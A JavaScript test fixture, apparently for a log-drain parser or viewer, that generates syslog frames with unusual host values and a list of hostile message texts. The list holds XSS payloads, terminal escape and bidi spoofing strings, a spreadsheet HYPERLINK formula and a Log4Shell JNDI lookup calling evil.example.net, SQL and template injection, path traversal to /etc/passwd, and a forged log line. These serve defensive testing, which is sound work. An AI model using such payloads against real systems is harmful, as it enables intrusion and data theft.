// Rare values, and malicious ones.

import { frame, frames } from "../encode.js";
import { printed } from "./lines.js";

/** @import { Message } from "../encode.js" */

/** @type {Message[]} */
const HOSTS = [
  { host_name: "d.9173ea1f-3d4c-4c1a-8f5e-5a2b7f0c6e10", message: "a drain's token" },
  { host_name: "203.0.113.80", message: "an IPv4 address" },
  { host_name: "2001:db8::17", message: "an IPv6 address" },
  { host_name: "edge-7.eu.example.net", message: "a domain name" },
  { host_name: "xn--bcher-kva.example", message: "a domain name in punycode" },
  { host_name: "203.0.113.080", message: "a leading zero: no address, so a name" },
  { host_name: undefined, message: "no host name" },
  { host_name: "host", process_id: "-1", message_id: "ID47", message: "- this dash is text" },
  { host_name: "host", timestamp: undefined, message: "no timestamp: the time of parsing counts" },
  { host_name: "host", message: undefined },
];

export function hosts() {
  const messages = HOSTS.map((message, index) => ({
    priority: 14 + 8 * index,
    timestamp: `2026-03-14T1${index}:15:00.${index}5-03:30`,
    app_name: "app",
    process_id: `web.${index + 1}`,
    ...message,
  }));
  return frames(messages);
}

/** Texts that try to be more than text wherever they are shown, exported or logged. */
const HOSTILE = [
  '<script>alert(document.domain)</script><img src=x onerror="alert(1)">',
  "\u001b[2J\u001b[31mall clear\u001b[0m \u001b]8;;https://evil.example.net\u0007click\u001b]8;;\u0007",
  "invoice-\u202efdp.exe is harmless \u2066\u2067 and so is sh\u200bop.example",
  "NUL \u0000 BEL \u0007 DEL \u007f C1 \u0085 LS \u2028 TAG \u{e0041}",
  '=HYPERLINK("https://evil.example.net/?"&A1,"report")',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that a careless logger would expand.
  "${jndi:ldap://evil.example.net/a} '; DROP TABLE logs; -- {{7*7}} %s%n ../../etc/passwd",
  `no blank: ${"0123456789abcdef".repeat(125)}`,
  "right to left: \u0634\u0643\u0631\u0627 (\u0663) \u05e9\u05dc\u05d5\u05dd [4] <b>",
  `Z\u0351\u0343\u035b\u0334\u0322a\u0346\u030d\u0329l\u0300\u0316\u0331g\u033f\u0345o\u0489 ${"\u0301".repeat(40)}`,
];

export function hostile() {
  const forged = new TextDecoder().decode(
    frame(printed("web.1", "18:00:00", "forged: user=admin logged in from 192.0.2.66")),
  );
  const messages = [...HOSTILE, `user agent: x\n${forged}that was one message`];
  const odd = {
    ...printed("__proto__", "18:00:10.5", "names that are no names"),
    host_name: "<b>host</b>",
    app_name: "constructor",
    message_id: "javascript:alert(1)",
  };
  return frames([
    ...messages.map((message, index) => printed("web.1", `18:00:0${index}.5`, message)),
    odd,
  ]);
}
